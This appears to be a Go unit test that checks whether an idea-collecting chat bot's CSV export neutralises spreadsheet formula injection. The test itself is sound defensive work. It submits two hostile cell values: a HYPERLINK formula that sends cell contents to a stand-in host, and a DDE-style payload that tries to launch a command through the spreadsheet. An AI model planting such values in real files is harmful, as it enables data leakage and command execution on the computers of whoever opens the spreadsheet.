package bot_test

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// An idea whose title and description are spreadsheet formulas reaches
// staff through /export as text, never as a formula.
func TestExportNeutralisesFormulas(t *testing.T) {
	h, _ := newIdeaHarness(t)
	submitIdea(h, lan, `=HYPERLINK("http://x.example/?"&A1,"Bấm vào")`, "@SUM(1+1)*cmd|' /C calc'!A0 và mô tả dài hơn một chút để đủ độ dài", true)
	h.send(admin, "/export")
	var doc []byte
	for _, m := range h.srv.Messages(admin.ID) {
		if m.Document != nil && bytes.HasSuffix([]byte(m.Document.Name), []byte(".csv")) {
			doc = m.Document.Data
		}
	}
	if doc == nil {
		t.Fatalf("no CSV document:\n%s", h.srv.Transcript(admin.ID))
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(doc, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && bytes.ContainsRune([]byte("=+-@\t\r"), rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if rows[1][2][0] != '\'' || rows[1][3][0] != '\'' {
		t.Errorf("title %q / description %q not neutralised", rows[1][2], rows[1][3])
	}
}
